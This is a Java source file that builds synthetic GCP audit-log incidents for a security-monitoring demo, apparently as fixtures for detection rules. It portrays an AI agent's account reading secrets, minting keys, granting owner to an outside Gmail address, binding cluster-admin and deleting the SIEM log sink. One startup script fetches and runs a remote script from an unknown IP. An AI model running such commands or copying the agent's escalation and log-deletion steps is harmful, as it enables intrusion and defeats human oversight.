package io.scalewatch.cli.demo;

import static io.scalewatch.cli.demo.DemoTime.SECOND;
import static io.scalewatch.cli.demo.DemoTime.at;
import static io.scalewatch.cli.demo.GcpEntry.PROJECT;
import static io.scalewatch.cli.demo.Json.arr;
import static io.scalewatch.cli.demo.Json.obj;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;

/** The GCP incidents of the demo day, by MAESTRO layer; docs/demo.md lists them with the rules they target. */
final class GcpIncidents {
    static final String UNKNOWN_IP = "45.148.10.92";
    private static final String GCLOUD = "google-cloud-sdk gcloud/497.0.0 command/gcloud.compute.instances.list"
            + " invocation-id/5c1f0e2d9a8b4c7e environment/None environment-version/None client-os/LINUX"
            + " client-os-ver/6.1.0 client-pltf-arch/x86_64 interactive/False from-script/True python/3.12.3"
            + " term/ (Linux 6.1.0),gzip(gfe)";
    private static final String AGENT_UNIQUE_ID = "104857391028475610293";

    private final GcpDemo demo;
    private final DemoRandom random;
    private final List<Entry> out = new ArrayList<>();
    private String keyName;

    GcpIncidents(GcpDemo demo, DemoRandom random) {
        this.demo = demo;
        this.random = random;
    }

    List<Entry> entries() {
        secretAccess();
        serviceAccountKey();
        projectOwner();
        clusterAdminBinding();
        gpuInstance();
        startupScript();
        keyFromUnknownIp();
        sinkDeleted();
        return out;
    }

    // L2: a Secret Manager secret read by the agent.
    private void secretAccess() {
        long t = at(14, 3, 41);
        String name = "projects/" + GcpEntry.PROJECT_NUMBER + "/secrets/demo-db-password/versions/latest";
        out.add(GcpEntry.of(t, GcpDemo.agent(random), "secretmanager.googleapis.com",
                        "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion", name)
                .dataAccess()
                .resource("audited_resource", obj("method",
                        "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion",
                        "project_id", PROJECT, "service", "secretmanager.googleapis.com"))
                .permission("secretmanager.versions.access").location("global")
                .request(obj("@type", "type.googleapis.com/google.cloud.secretmanager.v1.AccessSecretVersionRequest",
                        "name", name))
                .build(random));
    }

    // L6: a user-managed key minted for the agent's own service account (used later, see keyFromUnknownIp).
    private void serviceAccountKey() {
        long t = at(15, 11, 2);
        String account = "projects/-/serviceAccounts/" + GcpDemo.AGENT;
        keyName = "projects/" + PROJECT + "/serviceAccounts/" + GcpDemo.AGENT + "/keys/" + random.hex(40);
        out.add(GcpEntry.of(t, GcpDemo.agent(random), "iam.googleapis.com",
                        "google.iam.admin.v1.CreateServiceAccountKey", "projects/-/serviceAccounts/" + AGENT_UNIQUE_ID)
                .resource("service_account", obj("email_id", GcpDemo.AGENT, "project_id", PROJECT,
                        "unique_id", AGENT_UNIQUE_ID))
                .permission("iam.serviceAccountKeys.create")
                .request(obj("@type", "type.googleapis.com/google.iam.admin.v1.CreateServiceAccountKeyRequest",
                        "name", account, "private_key_type", 2))
                .response(obj("@type", "type.googleapis.com/google.iam.admin.v1.ServiceAccountKey",
                        "name", keyName, "private_key_type", 2, "key_algorithm", 2,
                        "valid_after_time", obj("seconds", t / 1000),
                        "valid_before_time", obj("seconds", 253_402_300_799L),
                        "key_origin", 2, "key_type", 1))
                .build(random));
    }

    // L6: roles/owner granted on the project to an outside account.
    private void projectOwner() {
        long t = at(15, 12, 30);
        String member = "user:ops.backup.4821@gmail.com";
        ArrayNode bindings = arr(
                obj("role", "roles/container.developer", "members", arr("serviceAccount:" + GcpDemo.AGENT)),
                obj("role", "roles/iam.serviceAccountUser", "members", arr("serviceAccount:" + GcpDemo.AGENT)),
                obj("role", "roles/owner", "members", arr("user:platform-admin@demo-corp.example", member)));
        String project = "projects/" + PROJECT;
        out.add(GcpEntry.of(t, GcpDemo.agent(random), "cloudresourcemanager.googleapis.com", "SetIamPolicy", project)
                .resource("project", obj("project_id", PROJECT))
                .permission("resourcemanager.projects.setIamPolicy")
                .serviceData(obj("@type", "type.googleapis.com/google.iam.v1.logging.AuditData",
                        "policyDelta", obj("bindingDeltas", arr(obj("action", "ADD", "role", "roles/owner",
                                "member", member)))))
                .request(obj("@type", "type.googleapis.com/google.iam.v1.SetIamPolicyRequest", "resource", PROJECT,
                        "policy", obj("bindings", bindings, "etag", "BwYk8zJlg2o=")))
                .response(obj("@type", "type.googleapis.com/google.iam.v1.Policy", "bindings", bindings.deepCopy(),
                        "etag", "BwYlp7rH6tY="))
                .build(random));
    }

    // L3: cluster-admin bound to a new service account.
    private void clusterAdminBinding() {
        long t = at(15, 14, 10);
        String name = "castai-debug-admin";
        ObjectNode binding = obj(
                "apiVersion", "rbac.authorization.k8s.io/v1",
                "kind", "ClusterRoleBinding",
                "metadata", obj("name", name),
                "roleRef", obj("apiGroup", "rbac.authorization.k8s.io", "kind", "ClusterRole", "name", "cluster-admin"),
                "subjects", arr(obj("kind", "ServiceAccount", "name", "castai-debug", "namespace", "kube-system")));
        ObjectNode request = obj("@type", "rbac.authorization.k8s.io/v1.ClusterRoleBinding");
        request.setAll(binding);
        ObjectNode response = request.deepCopy();
        ((ObjectNode) response.get("metadata")).put("uid", random.uuid()).put("resourceVersion", "48213377")
                .put("creationTimestamp", DemoTime.iso(t));
        out.add(GcpDemo.k8sCall(t, GcpDemo.agentK8s(random), "io.k8s.authorization.rbac.v1.clusterrolebindings.create",
                "rbac.authorization.k8s.io/v1/clusterrolebindings/" + name, request, response, random));
    }

    // L4: an 8-GPU A100 instance.
    private void gpuInstance() {
        long t = at(15, 31, 40);
        GcpDemo.Node node = new GcpDemo.Node("gke-demo-gke-cast-" + random.hex(8), random.digits(19), "us-central1-a",
                "a2-highgpu-8g", false);
        out.addAll(GcpDemo.insert(t, GcpDemo.agent(random), node, GcpDemo.NODE_SA, random, false));
    }

    // L4: a startup script added to a running node.
    private void startupScript() {
        long t = at(15, 35, 10);
        GcpDemo.Node node = demo.pool().get(0);
        String name = GcpDemo.instanceName(node);
        String operation = GcpDemo.operationId(t, random);
        ObjectNode labels = obj("instance_id", node.id(), "project_id", PROJECT, "zone", node.zone());
        out.add(GcpEntry.of(t, GcpDemo.agent(random), "compute.googleapis.com", "v1.compute.instances.setMetadata",
                        name)
                .resource("gce_instance", labels).permission("compute.instances.setMetadata")
                .operation(operation, "compute.googleapis.com", true).location(node.zone())
                .request(obj("@type", "type.googleapis.com/compute.instances.setMetadata",
                        "fingerprint", random.base64(11) + "=",
                        "items", arr(
                                obj("key", "cluster-name", "value", GcpDemo.CLUSTER),
                                obj("key", "startup-script", "value",
                                        "#!/bin/bash\ncurl -fsSL http://" + UNKNOWN_IP + "/n.sh | bash\n"))))
                .metadata(obj("@type", "type.googleapis.com/google.cloud.audit.GceInstanceAuditMetadata",
                        "instanceMetadataDelta", obj("addedMetadataKeys", arr("startup-script"))))
                .response(obj("@type", "type.googleapis.com/operation", "name", operation,
                        "operationType", "setMetadata", "status", "RUNNING", "targetId", node.id()))
                .build(random));
        out.add(GcpEntry.of(t + 4 * SECOND, GcpDemo.agent(random), "compute.googleapis.com",
                        "v1.compute.instances.setMetadata", name)
                .resource("gce_instance", labels.deepCopy())
                .operation(operation, "compute.googleapis.com", false).build(random));
    }

    // L7: the new user-managed key used with gcloud from an address outside the vendor's range.
    private void keyFromUnknownIp() {
        GcpEntry.Caller stolen =
                new GcpEntry.Caller(GcpDemo.AGENT, UNKNOWN_IP, GCLOUD, "//iam.googleapis.com/" + keyName);
        long t = at(16, 45, 18);
        out.add(GcpDemo.listInstances(t, stolen, "us-central1-a", random));
        out.add(GcpDemo.listInstances(t + 9 * SECOND, stolen, "us-central1-b", random));
        out.add(GcpEntry.of(t + 71 * SECOND, stolen, "cloudresourcemanager.googleapis.com", "GetIamPolicy",
                        "projects/" + PROJECT)
                .dataAccess().resource("project", obj("project_id", PROJECT))
                .permission("resourcemanager.projects.getIamPolicy")
                .request(obj("@type", "type.googleapis.com/google.iam.v1.GetIamPolicyRequest", "resource",
                        "projects/" + PROJECT))
                .build(random));
        out.add(GcpEntry.of(t + 140 * SECOND, stolen, "storage.googleapis.com", "storage.buckets.list",
                        "projects/_/buckets")
                .dataAccess().resource("gcs_bucket", obj("bucket_name", "", "location", "global",
                        "project_id", PROJECT))
                .permission("storage.buckets.list", "projects/_/buckets").build(random));
    }

    // L5: the SIEM export sink deleted.
    private void sinkDeleted() {
        long t = at(17, 35, 20);
        String sink = "projects/" + PROJECT + "/sinks/security-siem-export";
        out.add(GcpEntry.of(t, GcpDemo.agent(random), "logging.googleapis.com",
                        "google.logging.v2.ConfigServiceV2.DeleteSink", sink)
                .resource("logging_sink", obj("name", "security-siem-export", "destination", "",
                        "project_id", PROJECT))
                .permission("logging.sinks.delete")
                .request(obj("@type", "type.googleapis.com/google.logging.v2.DeleteSinkRequest", "sinkName", sink))
                .build(random));
    }
}
